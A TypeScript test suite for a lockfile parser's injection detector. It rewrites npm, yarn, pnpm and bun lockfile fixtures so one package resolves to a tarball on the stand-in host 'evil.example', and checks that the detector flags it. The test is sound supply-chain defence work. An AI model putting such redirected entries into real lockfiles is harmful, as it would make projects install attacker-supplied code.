import assert from 'node:assert/strict';
import {readFileSync} from 'node:fs';
import {describe, test} from 'node:test';
import {parseLockfile} from '../../../source/lockfiles/index.js';
import {inputFor} from '../../helpers/lockfile-fixtures.js';
import {fixturePath} from '../../helpers/paths.js';

/**
 * Lockfile injection in every npm-family format: each fixture as written marks nothing; the same file with one
 * package's entry edited to install it from elsewhere marks that package, and only it.
 */

const evil = 'https://evil.example/ms-2.1.3.tgz';

type Case = {
	readonly label: string;
	readonly file: readonly string[];
	/** The text to find and what to put instead: ms@2.1.3 installed from `evil`. */
	readonly edit: readonly [string, string];
	readonly usualHost: string;
};

const cases: Case[] = [
	{
		label: 'npm v3 without `resolved` (omit-lockfile-registry-resolved): a URL appears',
		file: ['lockfiles', 'npm-v3', 'basic', 'package-lock.json'],
		edit: [
			'"node_modules/send/node_modules/ms": {\n\t\t\t"version": "2.1.3",',
			`"node_modules/send/node_modules/ms": {\n\t\t\t"version": "2.1.3",\n\t\t\t"resolved": "${evil}",`,
		],
		usualHost: 'the configured registry',
	},
	{
		label: 'yarn classic: a `resolved` on another host',
		file: ['lockfiles', 'yarn-v1', 'basic', 'yarn.lock'],
		edit: [
			'resolved "https://registry.yarnpkg.com/ms/-/ms-2.1.3.tgz#574c8138ce1d2b5861f0b44579dbadd60c6615b2"',
			`resolved "${evil}"`,
		],
		usualHost: 'registry.npmjs.org',
	},
	{
		label: 'pnpm: a `tarball` added to a registry package’s resolution',
		file: ['lockfiles', 'pnpm-9', 'basic', 'pnpm-lock.yaml'],
		edit: [
			'  ms@2.1.3:\n    resolution: {integrity: ',
			`  ms@2.1.3:\n    resolution: {tarball: '${evil}', integrity: `,
		],
		usualHost: 'the configured registry',
	},
	{
		label: 'bun: a URL in the tuple where the registry’s "" was',
		file: ['lockfiles', 'bun', 'v1-basic', 'bun.lock'],
		edit: ['"send/ms": ["ms@2.1.3", ""', `"send/ms": ["ms@2.1.3", "${evil}"`],
		usualHost: 'the configured registry',
	},
	{
		label: 'yarn berry: a registry descriptor resolved to a URL',
		file: ['lockfiles', 'yarn-berry', 'basic', 'yarn.lock'],
		edit: ['resolution: "ms@npm:2.1.3"', `resolution: "ms@${evil}"`],
		usualHost: 'the configured registry',
	},
];

function read(file: readonly string[], text?: string) {
	const absolutePath = fixturePath(...file);
	return parseLockfile(inputFor(absolutePath, text ?? readFileSync(absolutePath, 'utf8')));
}

describe('lockfile injection, per format', () => {
	for (const {label, file, edit, usualHost} of cases) {
		test(label, () => {
			assert.deepEqual(
				read(file).packages.filter((node) => node.foreignTarball),
				[],
				'the fixture as written',
			);
			const original = readFileSync(fixturePath(...file), 'utf8');
			assert.ok(original.includes(edit[0]), `${file.join('/')} no longer has ${edit[0]}`);
			const marked = read(file, original.replace(edit[0], edit[1])).packages.filter(
				(node) => node.foreignTarball,
			);
			assert.deepEqual(
				marked.map((node) => [node.id, node.source ?? 'registry', node.foreignTarball]),
				[['npm:ms@2.1.3', 'registry', {url: evil, usualHost}]],
			);
		});
	}

	test('a registry URL of another version, on the registry’s own host, is marked as that version’s tarball', () => {
		const file = ['lockfiles', 'yarn-v1', 'basic', 'yarn.lock'];
		const original = readFileSync(fixturePath(...file), 'utf8');
		const downgrade = original.replace(
			'https://registry.yarnpkg.com/ms/-/ms-2.1.3.tgz#574c8138ce1d2b5861f0b44579dbadd60c6615b2',
			'https://registry.yarnpkg.com/ms/-/ms-2.0.0.tgz',
		);
		const marked = read(file, downgrade).packages.filter((node) => node.foreignTarball);
		assert.deepEqual(
			marked.map((node) => [node.id, node.foreignTarball]),
			[
				[
					'npm:ms@2.1.3',
					{
						url: 'https://registry.yarnpkg.com/ms/-/ms-2.0.0.tgz',
						usualHost: 'registry.npmjs.org',
						tarballOf: 'ms@2.0.0',
					},
				],
			],
		);
	});

	test('yarn berry: a URL asked for as a URL is a URL package, not an injection', () => {
		const file = ['lockfiles', 'yarn-berry', 'basic', 'yarn.lock'];
		const original = readFileSync(fixturePath(...file), 'utf8');
		const asked = original.replace(
			'"ms@npm:2.1.3":\n  version: 2.1.3\n  resolution: "ms@npm:2.1.3"',
			`"ms@npm:2.1.3, ms@${evil}":\n  version: 2.1.3\n  resolution: "ms@${evil}"`,
		);
		assert.notEqual(asked, original);
		const node = read(file, asked).packages.find((each) => each.id === 'npm:ms@2.1.3')!;
		assert.equal(node.source, 'url');
		assert.equal(node.foreignTarball, undefined);
	});
});
